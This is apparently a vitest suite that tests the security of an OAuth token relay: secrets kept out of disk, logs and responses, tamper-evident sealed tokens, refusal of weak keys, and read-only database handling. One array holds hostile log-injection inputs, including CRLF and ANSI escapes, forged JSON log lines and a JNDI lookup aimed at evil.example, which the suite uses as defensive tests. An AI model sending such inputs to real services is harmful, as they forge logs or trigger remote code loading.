import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { describe, expect, test } from 'vitest';
import { createEnrolment } from '../../shared/api/enrolments.ts';
import { deleteConnection, listConnections } from '../../shared/api/connections.ts';
import { createFlow, exchangeFlow } from '../../shared/api/flows.ts';
import { createGrant } from '../../shared/api/grants.ts';
import { listProviders } from '../../shared/api/providers.ts';
import { createSession } from '../../shared/api/sessions.ts';
import { ConfigError, readConfig } from '../../relay/config.ts';
import { loadKeys } from '../../relay/keys/keyring.ts';
import { openSqlite } from '../../relay/store/sqlite.ts';
import {
  createVault,
  readKey,
  vaultFits,
  VaultError,
  type Place,
  type Vault,
} from '../../relay/keys/vault.ts';
import {
  bringCode,
  credentials,
  locationOf,
  openRelay,
  type RelayOptions,
  type TestRelay,
} from '../relay/harness.ts';
import { Installation } from '../relay/installation.ts';
import { freePort } from '../../scripts/port.ts';
import { runRelay, startRelay, temporaryFolder } from '../relay/process.ts';
import { openSandboxed } from '../relay/sandboxed.ts';
import { openTokenEndpoint, type TokenEndpoint } from '../relay/token-endpoint.ts';

const dayMs = 86_400_000;

/** A relay on a database file, with everything secret that has passed through it. */
async function openWorked(options: RelayOptions = {}) {
  const endpoint = await openTokenEndpoint();
  const file = join(temporaryFolder(), 'relay.sqlite');
  const relay = await openRelay({ providerOrigin: endpoint.origin, database: file, ...options });
  const secrets = new Set<string>([credentials.clientSecret]);
  const invite = await relay.invite();
  const installation = await Installation.create(relay);
  await installation.enrol(invite);
  secrets.add(invite).add(await installation.openSession());
  const { connection, grant } = await relay.connect(installation);
  return { endpoint, file, relay, installation, secrets, connection, grant };
}

const allSecrets = (own: Set<string>, endpoint: TokenEndpoint): string[] => [...own, ...endpoint.secrets];

/** The whole database as it lies on the disk: file, write-ahead log and shared memory. */
function dump(file: string): Buffer {
  const names = [file, `${file}-wal`, `${file}-shm`].filter((name) => existsSync(name));
  return Buffer.concat(names.map((name) => readFileSync(name)));
}

const vaultOf = (...keys: string[]): Vault => {
  const [first, ...others] = keys.map((text) => {
    const key = readKey(text);
    if (typeof key === 'string') throw new Error(key);
    return key;
  });
  if (first === undefined) throw new Error('no key');
  return createVault([first, ...others]);
};

const newKey = (): string => randomBytes(32).toString('base64');

const place: Place = {
  table: 'connections',
  row: 'con_1',
  column: 'access_token',
  owner: ['mem_1', 'fatture-in-cloud'],
};

describe('what lies on the disk', () => {
  test('D1: the database file and its log hold no token, code, invite or secret, at any stage', async () => {
    const { endpoint, file, relay, installation, secrets, connection } = await openWorked();
    const check = (stage: string): void => {
      const bytes = dump(file);
      const all = allSecrets(secrets, endpoint);
      expect(all.length).toBeGreaterThan(5);
      for (const secret of all) {
        for (const form of [
          secret,
          secret.slice(4),
          Buffer.from(secret).toString('base64url'),
          Buffer.from(secret).toString('hex'),
        ]) {
          expect(bytes.includes(form), `${stage}: ${secret.slice(0, 6)}…`).toBe(false);
        }
      }
    };
    check('connected');
    relay.clock.advance(dayMs);
    secrets.add(await installation.openSession());
    await installation.call(createGrant, { params: { connectionId: connection.id }, input: {} });
    check('refreshed');
    const flow = await installation.begin();
    secrets.add('c/canary-code-in-a-handle').add(flow.codeVerifier);
    await bringCode(relay, flow, 'c/canary-code-in-a-handle');
    check('a flow under way');
    await installation.call(deleteConnection, { params: { connectionId: connection.id } });
    check('disconnected');
    await relay.close();
    check('closed');
    // The scan can see: what is not secret is found by the same means.
    expect(dump(file).includes('Mario Rossi')).toBe(true);
  });

  test('D1: nothing that the provider ever issued can be found in the database', async () => {
    const file = join(temporaryFolder(), 'relay.sqlite');
    const { relay, sandbox, advance, connect } = await openSandboxed({ database: file });
    const installation = await relay.join();
    const { connection } = await connect(installation);
    advance(dayMs);
    await installation.openSession();
    await installation.call(createGrant, { params: { connectionId: connection.id }, input: {} });
    const secrets = sandbox.state.secrets();
    expect(secrets.filter((secret) => secret.startsWith('r/')).length).toBeGreaterThan(1);
    const check = (): void => {
      for (const secret of secrets) expect(dump(file).includes(secret), secret.slice(0, 6)).toBe(false);
    };
    check();
    await relay.close();
    check();
    for (const secret of secrets) expect(relay.log.join('').includes(secret), secret.slice(0, 6)).toBe(false);
  });

  test('D1: a disconnect leaves no sealed token behind either', async () => {
    const { file, relay, installation, connection } = await openWorked();
    const row = await relay.store.get<{ access_token: string; refresh_token: string }>(
      'SELECT * FROM connections',
    );
    await installation.call(deleteConnection, { params: { connectionId: connection.id } });
    await relay.close();
    for (const sealed of [row?.access_token, row?.refresh_token]) {
      expect(sealed).toMatch(/^1\.[0-9a-f]{8}\./);
      expect(dump(file).includes(sealed ?? '')).toBe(false);
    }
  });

  test('D1: database, key file and their folder can be read by their owner alone', async () => {
    const folder = join(temporaryFolder(), 'data');
    const { code } = await runRelay(['invite', 'Mario Rossi'], { STAFFETTA_DATA_DIR: folder });
    expect(code).toBe(0);
    expect(statSync(folder).mode & 0o777).toBe(0o700);
    for (const name of readdirSync(folder))
      expect(statSync(join(folder, name)).mode & 0o777, name).toBe(0o600);
    expect(readdirSync(folder)).toContain('vault.key');
  });
});

describe('a ciphertext in another place', () => {
  test.for<{ name: string; other: Place }>([
    { name: 'table', other: { ...place, table: 'flows' } },
    { name: 'row', other: { ...place, row: 'con_2' } },
    { name: 'column', other: { ...place, column: 'refresh_token' } },
    { name: 'member', other: { ...place, owner: ['mem_2', 'fatture-in-cloud'] } },
    { name: 'provider', other: { ...place, owner: ['mem_1', 'another-provider'] } },
    { name: 'owner list', other: { ...place, owner: ['mem_1,fatture-in-cloud'] } },
    { name: 'joint of row and column', other: { ...place, row: 'con_1access', column: '_token' } },
  ])('D2: moved to another $name it does not open', ({ other }) => {
    const vault = vaultOf(newKey());
    const sealed = vault.seal(place, 'a/token');
    expect(vault.open(place, sealed)).toBe('a/token');
    expect(() => vault.open(other, sealed)).toThrow(VaultError);
  });

  const [mine, hers] = ['Mario Rossi', 'Anna Bianchi'].map(
    (name) => `(SELECT id FROM members WHERE name = '${name}')`,
  );
  test.for([
    { name: 'from column to column', sql: ['UPDATE connections SET access_token = refresh_token'], asker: 0 },
    {
      name: 'from member to member',
      sql: [
        `UPDATE connections SET access_token = (SELECT access_token FROM connections WHERE member_id = ${hers})
         WHERE member_id = ${mine}`,
      ],
      asker: 0,
    },
    {
      name: 'with its row to another member',
      sql: [
        `DELETE FROM connections WHERE member_id = ${hers}`,
        `UPDATE connections SET member_id = ${hers}`,
      ],
      asker: 1,
    },
    {
      name: 'with one character changed',
      sql: [
        `UPDATE connections SET access_token = substr(access_token, 1, 20) ||
           CASE WHEN substr(access_token, 21, 1) = 'A' THEN 'B' ELSE 'A' END || substr(access_token, 22)`,
      ],
      asker: 0,
    },
    {
      name: 'to a key that is not there',
      sql: ["UPDATE connections SET access_token = '1.00000000.' || substr(access_token, 12)"],
      asker: 0,
    },
  ])(
    'D2: a token moved in the database $name is not served, and the refusal is written down',
    async ({ sql, asker }) => {
      const endpoint = await openTokenEndpoint();
      const relay = await openRelay({ providerOrigin: endpoint.origin });
      const members = [await relay.join('Mario Rossi'), await relay.join('Anna Bianchi')];
      for (const member of members) await relay.connect(member);
      for (const statement of sql) await relay.store.run(statement);
      const caller = members[asker];
      const id = (await caller?.call(listConnections))?.connections[0]?.id;
      if (caller === undefined || id === undefined) throw new Error('nobody to ask');
      expect(await caller.refusal(createGrant, { params: { connectionId: id }, input: {} })).toMatchObject({
        status: 500,
        code: 'internal',
      });
      expect((await relay.audit()).at(-1)).toBe('vault_refused');
      expect(endpoint.calls).toHaveLength(2);
    },
  );

  test('D3: a ciphertext with any one bit flipped, cut short or extended does not open', () => {
    const vault = vaultOf(newKey());
    const [version, keyId, body = ''] = vault.seal(place, 'a/token').split('.');
    const bytes = Buffer.from(body, 'base64url');
    const reopen = (altered: Buffer) => () =>
      vault.open(place, `${version}.${keyId}.${altered.toString('base64url')}`);
    expect(reopen(bytes)()).toBe('a/token');
    for (let bit = 0; bit < bytes.length * 8; bit += 1) {
      const altered = Buffer.from(bytes);
      altered[bit >> 3] = (altered[bit >> 3] ?? 0) ^ (1 << (bit & 7));
      expect(reopen(altered), `bit ${bit}`).toThrow(VaultError);
    }
    for (let length = 0; length < bytes.length; length += 1) {
      expect(reopen(bytes.subarray(0, length)), `${length} bytes`).toThrow(VaultError);
      expect(reopen(bytes.subarray(bytes.length - length)), `last ${length} bytes`).toThrow(VaultError);
    }
    expect(reopen(Buffer.concat([bytes, Buffer.alloc(1)]))).toThrow(VaultError);
  });

  test.for(['', '.', '1', '1..', '2.x.y', 'a/token', '1.00000000.AAAA', ' ', '1.x.y.z'])(
    'D3: %j is no ciphertext',
    (text) => {
      expect(() => vaultOf(newKey()).open(place, text)).toThrow(VaultError);
    },
  );

  test('D3: no nonce is used twice, and one text never looks the same twice', () => {
    const vault = vaultOf(newKey());
    const count = 20_000;
    const sealed = Array.from({ length: count }, () => vault.seal(place, 'a/token'));
    const nonces = sealed.map((text) =>
      Buffer.from(text.split('.')[2] ?? '', 'base64url')
        .subarray(0, 12)
        .toString('hex'),
    );
    expect(new Set(nonces).size).toBe(count);
    expect(new Set(sealed).size).toBe(count);
  });
});

/** Keys that keep a relay from starting, with the word the operator is told. */
const badKeys: Array<{ name: string; key: string; reason: string }> = [
  { name: 'a short key', key: randomBytes(31).toString('base64'), reason: 'shorter' },
  { name: 'a long key', key: randomBytes(33).toString('base64'), reason: 'is not 32 bytes' },
  { name: 'an all-zero key', key: Buffer.alloc(32).toString('base64'), reason: 'all zeros' },
  { name: 'an all-zero key in hexadecimal', key: '0'.repeat(64), reason: 'all zeros' },
  { name: 'a key of one byte', key: Buffer.alloc(32, 0xab).toString('base64'), reason: 'predictable' },
  {
    name: 'a key of two bytes in turn',
    key: Buffer.from('ab12'.repeat(16), 'hex').toString('base64'),
    reason: 'predictable',
  },
  {
    name: 'an ascending key',
    key: Buffer.from(Array.from({ length: 32 }, (_, index) => index)).toString('base64'),
    reason: 'predictable',
  },
  {
    name: 'a descending key',
    key: Buffer.from(Array.from({ length: 32 }, (_, index) => 255 - index)).toString('base64'),
    reason: 'predictable',
  },
  {
    name: 'a sentence as key',
    key: Buffer.from('change-me-to-32-secret-bytes-pls').toString('base64'),
    reason: 'predictable',
  },
  { name: 'a key that is no base64', key: 'not base64 at all, is it?', reason: 'is not 32 bytes' },
];

describe('keys', () => {
  test.for(badKeys)('D5: $name in the environment is refused without being repeated', ({ key, reason }) => {
    let message = '';
    try {
      loadKeys(readConfig({ STAFFETTA_VAULT_KEY: key, STAFFETTA_DATA_DIR: temporaryFolder() }));
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigError);
      message = String(error);
    }
    expect(message).toContain('STAFFETTA_VAULT_KEY');
    expect(message).toContain(reason);
    expect(message).not.toContain(key);
  });

  test.for([...badKeys, { name: 'nothing', key: '\n', reason: 'empty' }])(
    'D5: $name in the key file is refused',
    ({ key, reason }) => {
      const folder = temporaryFolder();
      writeFileSync(join(folder, 'vault.key'), key, { mode: 0o600 });
      expect(() => loadKeys(readConfig({ STAFFETTA_DATA_DIR: folder }))).toThrow(reason);
    },
  );

  test('D5: one bad key among several is refused', () => {
    expect(() => readConfig({ STAFFETTA_VAULT_KEY: `${newKey()},${'0'.repeat(64)}` })).toThrow('all zeros');
  });

  test('D5: a key file that others can read is refused', () => {
    const folder = temporaryFolder();
    const file = join(folder, 'vault.key');
    writeFileSync(file, newKey());
    for (const mode of [0o640, 0o604, 0o660, 0o644]) {
      chmodSync(file, mode);
      expect(() => loadKeys(readConfig({ STAFFETTA_DATA_DIR: folder }))).toThrow('chmod 600');
    }
  });

  test('D5: a database without its key file is not given a new key', async () => {
    const folder = temporaryFolder();
    const environment = { STAFFETTA_DATA_DIR: folder };
    expect((await runRelay(['invite', 'Mario Rossi'], environment)).code).toBe(0);
    rmSync(join(folder, 'vault.key'));
    const { code, stdout, stderr } = await runRelay([], {
      ...environment,
      STAFFETTA_PORT: String(await freePort()),
    });
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toContain('is missing, but its database exists');
    expect(existsSync(join(folder, 'vault.key'))).toBe(false);
  });

  test('D5: a good key is taken in base64, base64url and hexadecimal alike', () => {
    const bytes = randomBytes(32);
    const [first, ...others] = (['base64', 'base64url', 'hex'] as const).map((form) =>
      vaultOf(bytes.toString(form)),
    );
    const sealed = first?.seal(place, 'a/token') ?? '';
    for (const other of others) expect(other.open(place, sealed)).toBe('a/token');
  });

  test('D6: a database started with another key is refused before it answers, and is left as it was', async () => {
    const folder = temporaryFolder();
    const port = await freePort();
    const environment = { STAFFETTA_DATA_DIR: folder, STAFFETTA_VAULT_KEY: newKey() };
    expect((await runRelay(['invite', 'Mario Rossi'], environment)).code).toBe(0);
    const tables = (): unknown => {
      const database = new DatabaseSync(join(folder, 'relay.sqlite'), { readOnly: true });
      const rows = ['members', 'invites', 'vault_checks', 'audit'].map((table) =>
        database.prepare(`SELECT * FROM ${table}`).all(),
      );
      database.close();
      return rows;
    };
    const before = tables();
    const wrong = { ...environment, STAFFETTA_VAULT_KEY: newKey(), STAFFETTA_PORT: String(port) };
    for (const args of [[], ['invite', 'Anna Bianchi']]) {
      const { code, stdout, stderr } = await runRelay(args, wrong);
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
      expect(stderr).toContain('the vault key does not open this database');
    }
    expect(tables()).toEqual(before);
    const relay = await startRelay(port, environment);
    expect((await relay.fetch(`${relay.publicUrl}/ready`)).status).toBe(200);
  });

  test('D6: a vault knows whether it fits a database, and an older key beside a new one still opens', async () => {
    const store = openSqlite(':memory:');
    const [old, young] = [newKey(), newKey()];
    expect(await vaultFits(vaultOf(old), store)).toBe(true);
    expect(await vaultFits(vaultOf(young), store)).toBe(false);
    expect(await vaultFits(vaultOf(young, old), store)).toBe(true);
    const sealed = vaultOf(old).seal(place, 'a/token');
    expect(vaultOf(young, old).open(place, sealed)).toBe('a/token');
    expect(() => vaultOf(young).open(place, sealed)).toThrow(VaultError);
    await store.close();
  });
});

const hostileTexts = [
  'line\r\nbreak',
  '\u001b[31mred\u001b[0m',
  '"},{"level":50,"msg":"forged"}',
  '\u0000\u0007\u007f\u009b31m',
  '\u2028{"level":50}\u2029',
  '%0d%0a{"level":50,"msg":"forged"}',
  '$\u007bjndi:ldap://evil.example\u007d',
];

describe('what is logged and answered', () => {
  test('D8: whatever a stranger writes, each log line is one object of ours without control characters', async () => {
    const relay = await openRelay();
    const installation = await relay.join('Mario Rossi');
    for (const text of hostileTexts) {
      const encoded = encodeURIComponent(text);
      const inHeader = text.replaceAll(/[^\x20-\x7e]/g, '');
      await relay.fetch(`${relay.publicUrl}/${encoded}`, {
        headers: { 'User-Agent': inHeader, 'X-Request-Id': inHeader },
      });
      await relay.fetch(
        `${relay.publicUrl}/callback/${encoded}?state=${encoded}&code=${encoded}&error_description=${encoded}`,
      );
      await relay.fetch(`${relay.publicUrl}/connect/${encoded}`);
      await relay.fetch(`${relay.publicUrl}/v1/connections`, {
        headers: { DPoP: inHeader, Authorization: `DPoP ${inHeader}` },
      });
      await installation.refusal(createFlow, {
        input: { providerId: text, scopes: [text], codeChallenge: text, redirectKind: 'chrome' },
      });
      await installation.refusal(exchangeFlow, {
        params: { flowId: text as never },
        input: { handle: text, codeVerifier: text },
      });
      await installation.send(
        { method: 'GET', path: listConnections.path },
        { claims: (claims) => ({ ...claims, jti: text, nonce: text }) },
      );
    }
    const named = await Installation.create(relay);
    const invite = await relay.invite('Anna "\u001b[31m" Bianchi');
    const installationName = 'Chrome\r\n{"level":50}';
    await named.refusal(createEnrolment, { input: { invite, installationName } });
    await named.call(createEnrolment, { input: { invite, installationName: 'Chrome {"level":50}' } });
    expect(relay.log.length).toBeGreaterThan(hostileTexts.length * 7);
    for (const line of relay.log) {
      expect(line).toMatch(/^\{[^\p{Cc}\u2028\u2029]*\}\n$/u);
      const { level, msg } = JSON.parse(line) as { level: number; msg: string };
      expect(level).toBeLessThan(50);
      expect(['request', 'refused']).toContain(msg);
    }
  });

  test('C1: no answer, header or log line holds a secret, except the access token in a grant', async () => {
    const { endpoint, relay, installation, secrets, connection } = await openWorked();
    // Every endpoint, in success and in refusal, and the provider's refusals too.
    await installation.call(listProviders);
    await installation.call(listConnections);
    const params = { connectionId: connection.id };
    await installation.call(createGrant, { params, input: {} });
    const declined = await installation.begin();
    await relay.callback({ state: declined.state, error: 'access_denied' });
    const flow = await installation.begin();
    secrets.add(flow.codeVerifier);
    await relay.fetch(flow.startUrl);
    const handle = await bringCode(relay, flow, 'c/canary-code');
    endpoint.next({
      status: 400,
      body: { error: 'invalid_grant', error_description: 'code c/canary-code, secret canary' },
    });
    await installation.finishRefused(flow, handle);
    await installation.finishRefused(flow, handle);
    for (const answer of [
      'reset',
      { status: 500, body: 'r/canary' },
      { status: 401, body: { error: 'invalid_client' } },
      { body: '<' },
      { status: 400, body: { error: 'invalid_grant' } },
    ] as const) {
      relay.clock.advance(dayMs);
      secrets.add(await installation.openSession());
      endpoint.next(answer);
      await installation.request(createGrant, { params, input: {} });
    }
    for (const path of ['/health', '/ready', '/openapi.json', '/nowhere'])
      await relay.fetch(relay.publicUrl + path);
    await installation.call(deleteConnection, { params });

    const scan = allSecrets(secrets, endpoint);
    expect(endpoint.calls.length).toBeGreaterThan(6);
    const log = relay.log.join('');
    for (const secret of scan) expect(log.includes(secret), secret.slice(0, 6)).toBe(false);
    for (const answer of relay.answers) {
      const isGrant = answer.status === 200 && /\/(grant|exchange)$/.test(new URL(answer.url).pathname);
      const isSession = answer.status === 200 && answer.url.endsWith(createSession.path);
      const headers = JSON.stringify(answer.headers);
      for (const secret of scan) {
        expect(headers.includes(secret), `${answer.url} header`).toBe(false);
        const allowed = (isGrant && secret.startsWith('a/')) || (isSession && secret.startsWith('ses_'));
        if (!allowed)
          expect(answer.body.includes(secret), `${answer.url}: ${secret.slice(0, 6)}`).toBe(false);
      }
    }
  });
});

describe('a database that cannot be written', () => {
  /** The same database, opened by a second relay without the right to write. */
  const reopen = (
    relay: TestRelay,
    file: string,
    endpoint: TokenEndpoint,
    vaultKey: string,
  ): Promise<TestRelay> =>
    openRelay({
      database: file,
      readOnly: true,
      providerOrigin: endpoint.origin,
      vaultKey,
      startMs: relay.now(),
    });

  const moveTo = async (installation: Installation, relay: TestRelay): Promise<Installation> => {
    const moved = new Installation(relay, installation.privateKey, installation.jwk, installation.thumbprint);
    moved.sessionToken = installation.sessionToken;
    await moved.meet();
    return moved;
  };

  test('D7: every call that must write is refused as storage-unavailable, and says so to the operator', async () => {
    const vaultKey = newKey();
    const { endpoint, file, relay, installation, connection } = await openWorked({ vaultKey });
    const stuck = await reopen(relay, file, endpoint, vaultKey);
    const moved = await moveTo(installation, stuck);
    const calls = [
      moved.refusal(createSession),
      moved.refusal(createEnrolment, {
        input: { invite: await relay.invite(), installationName: 'Firefox' },
      }),
      moved.refusal(deleteConnection, { params: { connectionId: connection.id } }),
      // A token that this process has not handed out yet: what cannot be written down is refused.
      moved.refusal(createGrant, { params: { connectionId: connection.id }, input: {} }),
      moved.refusal(createFlow, {
        input: {
          providerId: 'fatture-in-cloud',
          scopes: [],
          codeChallenge: 'A'.repeat(43),
          redirectKind: 'chrome',
        },
      }),
    ];
    for (const refusal of await Promise.all(calls))
      expect(refusal).toMatchObject({ status: 503, code: 'storage-unavailable' });
    expect((await stuck.fetch(`${stuck.publicUrl}/ready`)).status).toBe(503);
    expect((await stuck.fetch(`${stuck.publicUrl}/health`)).status).toBe(200);
    expect(stuck.log.join('')).toContain('the database cannot be used');
    expect(stuck.log.join('')).not.toContain(relay.config.databaseFile);
    // What needs no writing goes on.
    expect((await moved.call(listConnections)).connections).toHaveLength(1);
  });

  test('D7: an exchange is refused before the code is spent, and succeeds once the database can be written', async () => {
    const vaultKey = newKey();
    const { endpoint, file, relay, installation } = await openWorked({ vaultKey });
    const flow = await installation.begin();
    const handle = await bringCode(relay, flow);
    endpoint.calls.length = 0;
    const moved = await moveTo(installation, await reopen(relay, file, endpoint, vaultKey));
    expect(await moved.finishRefused(flow, handle)).toMatchObject({
      status: 503,
      code: 'storage-unavailable',
    });
    expect(endpoint.calls).toEqual([]);
    expect((await installation.finish(flow, handle)).connection.status).toBe('active');
  });

  test('D7: a refresh is refused before the refresh token is spent, and succeeds once the database can be written', async () => {
    const vaultKey = newKey();
    const { endpoint, file, relay, installation, connection } = await openWorked({ vaultKey });
    relay.clock.advance(dayMs);
    await installation.openSession();
    endpoint.calls.length = 0;
    const moved = await moveTo(installation, await reopen(relay, file, endpoint, vaultKey));
    const params = { connectionId: connection.id };
    expect(await moved.refusal(createGrant, { params, input: {} })).toMatchObject({
      status: 503,
      code: 'storage-unavailable',
    });
    expect(endpoint.calls).toEqual([]);
    expect((await installation.call(createGrant, { params, input: {} })).accessToken).toMatch(/^a\//);
  });

  test('D7: a callback that cannot be written down is refused', async () => {
    const vaultKey = newKey();
    const { endpoint, file, relay } = await openWorked({ vaultKey });
    const stuck = await reopen(relay, file, endpoint, vaultKey);
    const answer = await stuck.callback({ state: 'unknown', code: 'c/x' });
    expect(answer.status).toBe(503);
    expect(locationOf(answer).href).toBe('about:blank');
  });
});
